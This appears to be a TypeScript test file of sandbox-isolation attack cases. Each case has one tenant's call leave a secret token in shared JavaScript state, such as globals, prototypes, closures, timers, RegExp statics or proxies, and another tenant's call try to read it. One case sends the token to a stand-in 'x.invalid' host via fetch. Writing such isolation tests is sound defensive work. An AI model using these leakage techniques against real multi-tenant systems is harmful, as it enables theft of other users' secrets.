import type { Attack } from '../attack.ts'
import { family } from './module.ts'

/** The victim's call of the same code, in another trust domain, leaves its secret in this place; the attack looks there. */
const left = (before: string, leave: string, look: string): [string, string] => [
  before,
  `if (indicator.value === 'victim') { const loot = { secret: ctx.secrets.token, config: ctx.config, ctx }; ${leave}; return { summary: 'left' } } return { summary: 's', got: ${look} ?? null }`,
]
const places: Record<string, [string, string]> = {
  'in a variable of the module': left('let kept', 'kept = loot', '{ secret: kept?.secret, config: kept?.config }'),
  'in a private field': left(
    'class Box { static #in; static put(x) { Box.#in = x } static get() { return Box.#in } }',
    'Box.put(loot)',
    'Box.get()?.secret',
  ),
  'in a closure': left(
    'const box = (() => { let x; return (v) => (v ? (x = v) : x) })()',
    'box(loot)',
    'box()?.secret',
  ),
  'in a generator': left(
    'const tape = (function* () { let x; for (;;) x = (yield x) ?? x })(); tape.next()',
    'tape.next(loot)',
    'tape.next().value?.secret',
  ),
  'in a weak map': left('const box = new WeakMap(), key = {}', 'box.set(key, loot)', 'box.get(key)?.secret'),
  'in a weak reference': left('let ref', 'ref = new WeakRef(loot)', 'ref?.deref()?.secret'),
  'in a registered symbol': left(
    '',
    'Symbol.for("loot " + loot.secret); globalThis[Symbol.for("loot")] = loot.secret',
    'globalThis[Symbol.for("loot")]',
  ),
  'on the global object': left(
    '',
    'globalThis.loot = loot.secret; var x = (0, eval)("var loot = 1")',
    'globalThis.loot',
  ),
  'on a function of ctx': left(
    '',
    'ctx.fetch.loot = loot.secret; ctx.log.info.loot = loot.secret',
    'ctx.fetch.loot ?? ctx.log.info.loot',
  ),
  'on the prototype of all': left('', 'Object.prototype.loot = loot.secret', '({}).loot'),
  'on a built-in': left(
    '',
    'Array.prototype.loot = JSON.loot = Math.loot = URL.loot = console.loot = loot.secret',
    '[[].loot, JSON.loot, Math.loot, URL.loot, console.loot]',
  ),
  'in the last match of a regular expression': left(
    '',
    '/.+/.exec(loot.secret); RegExp.input = loot.secret',
    '[RegExp.lastMatch, RegExp.$_, RegExp["$&"], RegExp.input, RegExp.$1]',
  ),
  'in a template object': left(
    'const t = (s) => s; const site = () => t`x`',
    'try { site().loot = loot.secret } catch {}',
    'site().loot',
  ),
  'in a timer': left(
    'let heard',
    'setTimeout(() => { heard = loot.secret }, 1)',
    'await new Promise((r) => setTimeout(() => r(heard), 30))',
  ),
  'in a promise': left('let p', 'p = Promise.resolve(loot.secret)', '(await p)'),
  'in a finalizer': left(
    'const got = []; const r = new FinalizationRegistry((x) => got.push(x))',
    'for (let i = 0; i < 100; i++) r.register({}, loot.secret)',
    '(await new Promise((d) => setTimeout(() => d(got), 30)))',
  ),
  'in a proxy of an argument': left(
    'const got = []',
    'Object.setPrototypeOf(ctx, new Proxy({}, { get: (t, k) => (got.push(String(k)), loot.secret) }))',
    '[got, ctx.nothing]',
  ),
}

export const state: Attack[] = [
  ...Object.entries(places).flatMap(([place, [before, body]]) =>
    (['before', 'beside'] as const).map((victim): Attack => ({
      name: `what the same code left for another tenant ${place}, called ${victim} it`,
      code: `${before}\nexport async function fetchData(indicator, ctx) {\n${body}\n}`,
      ends: ['harmless'],
      victim,
    })),
  ),
  ...family(
    ['harmless'],
    {
      "another tenant's call that waits": `if (indicator.value === 'victim') { globalThis; await new Promise((r) => setTimeout(r, 100)); return { summary: ctx.secrets.token } }
        const got = []; for (let i = 0; i < 20; i++) { await new Promise((r) => setTimeout(r, 2)); got.push(Object.keys(ctx.secrets), ctx.config.label) } return { summary: 's', got }`,
      "another tenant's log": `if (indicator.value === 'victim') { for (let i = 0; i < 20; i++) { ctx.log.info(ctx.secrets.token); console.log(ctx.secrets.token); await new Promise((r) => setTimeout(r, 2)) } return { summary: 'v' } }
        for (let i = 0; i < 20; i++) { console.log('mine'); await new Promise((r) => setTimeout(r, 2)) }`,
      "another tenant's answer by its number": `if (indicator.value === 'victim') { await ctx.fetch('http://x.invalid/' + ctx.secrets.token).catch(() => {}); await new Promise((r) => setTimeout(r, 50)); return { summary: 'v' } }
        const got = []; for (let i = 0; i < 9; i++) got.push(await ctx.fetch('http://y.invalid/').catch((e) => e.message)); return { summary: 's', got }`,
      "another tenant's clock":
        `if (indicator.value === 'victim') { for (let i = 0; i < 3e6; i++) ctx.secrets.token.charCodeAt(i % 9); return { summary: 'v' } } const got = []; for (let i = 0; i < 1000; i++) got.push(performance?.now?.() ?? Date.now()); return { summary: 's', got: got.length }`.replace(
          'performance?.now?.() ??',
          '',
        ),
    },
    { victim: 'beside' },
  ),
]
